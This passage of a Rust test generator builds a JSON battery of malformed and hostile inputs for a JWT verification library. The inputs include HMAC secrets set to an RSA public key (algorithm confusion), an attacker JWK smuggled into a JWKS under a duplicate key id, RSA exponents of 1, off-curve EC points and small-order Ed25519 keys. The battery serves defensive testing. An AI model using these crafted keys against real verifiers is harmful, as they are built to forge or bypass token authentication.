        "hmac": {"hmac_secret_b64": encode::<base64ct::Base64>(HMAC_SECRET)},
        "hmac16": {"hmac_secret_b64": encode::<base64ct::Base64>(&[7u8; 16])},
        "hmac_is_rsa_pem": {"hmac_secret_b64": encode::<base64ct::Base64>(data("battery-rsa2048-public.pem").as_bytes())},
        "hmac_is_rsa_jwk": {"hmac_secret_b64": encode::<base64ct::Base64>(key_jwk("k1", "").as_bytes())},
        "jwks_two": {"jwks_text": jwks(&[key_jwk("k1", ""), attacker_jwk.replacen('{', r#"{"kid":"k2","#, 1)])},
        "jwks_dup_kid": {"jwks_text": jwks(&[key_jwk("k1", ""), attacker_jwk.replacen('{', r#"{"kid":"k1","#, 1)])},
        "jwks_enc": {"jwks_text": jwks(&[key_jwk("k1", r#","use":"enc""#)])},
        "jwks_ops_encrypt": {"jwks_text": jwks(&[key_jwk("k1", r#","key_ops":["encrypt"]"#)])},
        "jwks_pinned_rs512": {"jwks_text": jwks(&[key_jwk("k1", r#","alg":"RS512""#)])},
        "jwks_mixed": {"jwks_text": jwks(&[key_jwk("k1", ""), format!(r#"{{"kty":"oct","kid":"k2","k":"{}"}}"#, b64(HMAC_SECRET))])},
        "jwk_e1": {"jwk_text": format!(r#"{{"kty":"RSA","n":"{}","e":"AQ"}}"#, b64(&n))},
        "jwk_e_even": {"jwk_text": format!(r#"{{"kty":"RSA","n":"{}","e":"AQAA"}}"#, b64(&n))},
        "jwk_ec_short_x": {"jwk_text": format!(r#"{{"kty":"EC","crv":"P-256","x":"{}","y":"{}"}}"#, b64(&ec_point[2..33]), b64(&ec_point[33..]))},
        "jwk_ec_off_curve": {"jwk_text": format!(r#"{{"kty":"EC","crv":"P-256","x":"{}","y":"{}"}}"#, b64(&ec_point[1..33]), b64(&off_curve_y))},
        "jwk_ed_identity": {"jwk_text": r#"{"kty":"OKP","crv":"Ed25519","x":"AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}"#},
        "jwk_ed_order8": {"jwk_text": r#"{"kty":"OKP","crv":"Ed25519","x":"JuiVj8KyJ7BFw_SJ8u-Y8NXfrAXTxjM5sTgCiG1T_AU"}"#},
        "jwk_p521": {"jwk_text": r#"{"kty":"EC","crv":"P-521","x":"AHKZLLOsCOzz5cY97ewNUajB957y-C-U88c3v13nmGZx6sYl_oJXu9A5RkTKqjqvjyekWF-7ytDyRXYgCF5cj0Kt","y":"AdymlHvOiLxXkEhayXQnNCvDX4h9htZaCJN34kfmC6pV5OhQHiraVySsUdaQkAgDPrwQrJmbnX9cwlGfP-HqHZR1"}"#},
    });
    json!({
        "format": {
            "name": "sessionjwt bad-input battery",
            "version": 1,
            "about": "Tokens, verifier options and exact expected outcomes for spec/security.md section 1, run unchanged by every binding. Generated by core/tests/battery.rs; do not edit by hand.",
            "keys": "name -> how to load it: pem_file (path from the repository root, add_pem), hmac_secret_b64 (standard base64 of the raw secret), jwks_text / jwk_text (JSON text, add_jwks / add_jwk).",
            "verifiers": "name -> options. A case's verifier is a name from here or an inline object with the same members: keys (names, loaded in order), algorithms (allow-list; absent = derived from the keys), authorized_parties, audiences, issuers, header_types, clock_skew_ms (default 5000), max_token_bytes (default 8192), max_json_depth (default 32).",
            "token": "exactly one of: token (the text), token_b64 (standard base64 of the raw bytes, for NUL, invalid UTF-8 and non-ASCII), token_repeat ({unit, count}: unit repeated count times).",
            "now_ms": "the time of verification in ms; a case's now_ms overrides the top-level one.",
            "expect": "result ok (category ok; sub, when given, must equal the verified subject byte for byte) or error with stage (build: loading keys/options or building the verifier fails; verify: verification fails), code, reason, number (the C result code) and category (spec/security.md's outcome vocabulary). A runner must match all of them.",
            "categories": "error number -> its category, for every error the core has: a runner takes the category of the number it got from here (a number missing here is a failure).",
        },
        "now_ms": NOW_MS,
        "categories": Error::ALL
            .iter()
            .map(|e| (e.number().to_string(), Value::from(category(*e))))
            .collect::<serde_json::Map<_, _>>(),
        "keys": keys,
        "verifiers": {
            "rsa": {"keys": ["rsa2048"]},
            "ec": {"keys": ["ec256"]},
            "ed": {"keys": ["ed25519"]},
            "hmac": {"keys": ["hmac"]},
            "jwks_two": {"keys": ["jwks_two"]},
            "jwks_dup_kid": {"keys": ["jwks_dup_kid"]},
            "jwks_enc": {"keys": ["jwks_enc"]},
            "jwks_ops_encrypt": {"keys": ["jwks_ops_encrypt"]},
        },
        "cases": g.cases,
    })
}

#[test]
fn battery_file_is_generated() {
    let generated = generate();
    let path = root().join(BATTERY);
    if std::env::var_os("SESSIONJWT_BLESS").is_some() {
        let text = serde_json::to_string_pretty(&generated).unwrap() + "\n";
        std::fs::write(&path, text).unwrap();
        return;
    }
    let committed = load();
    if committed != generated {
        let ids = |v: &Value| -> Vec<String> {
            v["cases"]
                .as_array()
                .unwrap()
                .iter()
                .map(|c| c.to_string())
                .collect()
        };
        let (c, g) = (ids(&committed), ids(&generated));
        let first = c.iter().zip(&g).position(|(a, b)| a != b);
        panic!(
            "{} differs from the generator (first differing case: {:?}); run \
             SESSIONJWT_BLESS=1 cargo test -p sessionjwt --test battery and review the diff",
            Path::new(BATTERY).display(),
            first.map(|i| &g[i][..g[i].len().min(200)])
        );
    }
}
